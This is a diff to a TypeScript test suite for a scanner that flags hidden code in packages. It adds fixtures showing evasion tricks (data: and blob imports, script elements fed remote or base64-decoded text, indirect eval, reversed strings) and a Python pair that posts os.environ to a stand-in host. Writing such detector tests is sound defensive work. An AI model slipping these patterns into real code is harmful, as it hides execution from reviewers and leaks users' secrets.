@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { suite, test } from 'node:test';
 import { RULES, type RuleId } from '../../src/checks/ruleset.ts';
 import { checkFiles } from './check-files.ts';
+import { hiddenSiblings } from './hidden-siblings.ts';
 
 /** Ways to keep code from the eye of a reviewer, each with the rule that finds it. */
 const hidden: readonly (readonly [way: string, rule: RuleId, code: string])[] = [
@@ -162,6 +163,64 @@ const ofWeb: readonly (readonly [way: string, rule: RuleId, code: string])[] = [
     'web-script-element',
     'const s = document.createElement("script");\ns.src = "https://a.io/x.js";',
   ],
+  ['a static import of data', 'web-import-data', 'import "data:text/javascript,alert(1)"'],
+  ['an import from data', 'web-import-data', 'export * from "data:text/javascript,export default 1"'],
+  [
+    'an import of data in a variable',
+    'web-import-data',
+    'const u = "data:text/javascript,alert(1)";\nimport(u)',
+  ],
+  [
+    'an import of a blob in a variable',
+    'web-import-data',
+    'const u = URL.createObjectURL(new Blob([text]));\nimport(u)',
+  ],
+  [
+    'a script element of data',
+    'web-import-data',
+    'const s = document.createElement("script");\ns.src = "data:text/javascript,alert(1)";',
+  ],
+  [
+    'a script element with a node of decoded text',
+    'web-script-decoded',
+    'const s = document.createElement("script");\ns.append(document.createTextNode(atob("eA==")))',
+  ],
+  [
+    'a script element with decoded text of a variable',
+    'web-script-decoded',
+    'const t = atob("eA==");\nconst s = document.createElement("script");\ns.text = t',
+  ],
+  [
+    'a script element with the text of an answer',
+    'web-script-decoded',
+    'fetch("https://a.io").then((r) => r.text()).then((t) => { const s = document.createElement("script"); s.text = t; })',
+  ],
+  [
+    'a script of another server by setAttribute',
+    'web-script-element',
+    'const s = document.createElement("script");\ns.setAttribute("src", "//a.io/x.js");',
+  ],
+  ['an import from another server', 'web-script-element', 'import {\n  a,\n} from "https://a.io/x.js";'],
+  ['eval that is not called by its name', 'web-exec-decoded', '(0, eval)(atob("eA=="))'],
+  ['eval by its name in a string', 'web-exec-decoded', 'window["eval"](atob("eA=="))'],
+  ['the constructor of a function', 'web-exec-decoded', '[].constructor.constructor(atob("eA=="))()'],
+  ['a text that is turned round', 'web-exec-decoded', 'eval(")1(trela".split("").reverse().join(""))'],
+];
+
+/** The same over two files: what one has, and what the other does with it. */
+const ofTwoFiles: readonly (readonly [way: string, rule: RuleId, one: string, other: string])[] = [
+  [
+    'a table of functions',
+    'command-at-import',
+    'from .b import runs\nruns["a"]("ls")',
+    'import os\nruns = {"a": os.system}',
+  ],
+  [
+    'an environment that is passed on',
+    'environment-sent',
+    'from .b import send\nimport os\nsend(dict(os.environ))',
+    'import requests\ndef send(data):\n    requests.post("https://a.io", json=data)',
+  ],
 ];
 
 /** What resembles them, and holds no package. */
@@ -176,14 +235,46 @@ const harmless: Readonly<Record<string, string>> = {
   'a model': 'import torch\nmodel = torch.load(path, map_location="cpu", weights_only=False)',
   'a module by its path':
     'import importlib.util, os\nspec = importlib.util.spec_from_file_location("a", os.path.join(here, "a.py"))',
+  'a copy of the start-up file': 'import shutil, os\nshutil.copy(os.path.expanduser("~/.bashrc"), "backup")',
+  'a library that is copied from the packages':
+    'import shutil, site\nshutil.copy(site.getsitepackages()[0] + "/a/a.dll", "bin/a.dll")',
+  'a table of modules': 'import requests\nlibraries = {"requests": requests}\neval(libraries.get(name))',
+  'an icon in a class that calculates':
+    'import base64\nclass A:\n    ICON = base64.b64decode("eA==")\n    def run(self, text):\n        return eval(text)',
   'a timer': 'import timeit\nbegun = timeit.default_timer()',
+};
+
+/** What resembles them, and finds nothing at all. */
+const innocent: Readonly<Record<string, string>> = {
+  'a getter of rows': 'import operator\nsorted(rows, key=operator.itemgetter("name"))',
+  'a path of attributes': 'import functools\nfunctools.reduce(getattr, path.split("."), model)',
+  'a table of own functions': 'def run(x):\n    return x\nTABLE = {"run": run}\nTABLE["run"](1)',
+  'a function in an annotation':
+    'import subprocess\ndef f(p: subprocess.Popen):\n    isinstance(p, subprocess.Popen)',
+  'a loop over profiles': 'for profile in load():\n    profile.run("x")',
+  'a safe loader of yaml': 'import yaml\nyaml.load(text, Loader=yaml.CSafeLoader)',
+  'handlers of the library':
+    'import logging.config\nlogging.config.dictConfig({"class": "logging.StreamHandler"})',
+  'variables by their names':
+    'import requests, os\nrequests.head("https://a.io", headers={"x": os.environ["A"]})',
+  'a start-up file that is read':
+    'from pathlib import Path\n(Path.home() / ".bashrc").open("r", encoding="utf8")',
+};
+
+const innocentOnTheWeb: Readonly<Record<string, string>> = {
+  'an import of the host': 'import { app } from "/scripts/app.js";\nimport("./x.js")',
+  'an address': 'export const API = "https://a.io/v1";\nimport x from "./x.js";',
+  'a picture beside a script element':
+    'const i = document.createElement("img");\ni.src = "https://a.io/a.png";\nconst s = document.createElement("script");\ns.src = "./own.js";',
+  'a worker of a blob': 'const u = URL.createObjectURL(new Blob([text]));\nnew Worker(u);',
+  'a script in a remark': '<!-- <script src="https://a.io/x.js"></script> -->',
 };
 
 const rulesIn = async (files: Readonly<Record<string, string>>): Promise<string[]> =>
   (await checkFiles(files)).findings.map(({ rule }) => rule);
 
 suite('hidden code', () => {
-  for (const [way, rule, code] of hidden) {
+  for (const [way, rule, code] of [...hidden, ...hiddenSiblings]) {
     test(`${way} is found`, async () => {
       const found = await rulesIn({ '__init__.py': `${code}\n` });
       assert.ok(found.includes(rule), `${rule} is not in ${found.join(', ') || 'nothing'}`);
@@ -202,6 +293,25 @@ suite('hidden code', () => {
       const found = await rulesIn({ '__init__.py': `${code}\n` });
       const errors = found.filter((rule) => RULES[rule as RuleId].severity === 'error');
       assert.deepEqual(errors, []);
+    });
+  }
+
+  for (const [way, rule, one, other] of ofTwoFiles) {
+    test(`${way} is found over two files`, async () => {
+      const found = await rulesIn({ '__init__.py': `${one}\n`, 'b.py': `${other}\n` });
+      assert.ok(found.includes(rule), `${rule} is not in ${found.join(', ') || 'nothing'}`);
+    });
+  }
+
+  for (const [what, code] of Object.entries(innocent)) {
+    test(`${what} finds nothing`, async () => {
+      assert.deepEqual(await rulesIn({ '__init__.py': `${code}\n` }), []);
+    });
+  }
+
+  for (const [what, code] of Object.entries(innocentOnTheWeb)) {
+    test(`${what} finds nothing in JavaScript`, async () => {
+      assert.deepEqual(await rulesIn({ '__init__.py': '', 'web/main.js': `${code}\n` }), []);
     });
   }
 });
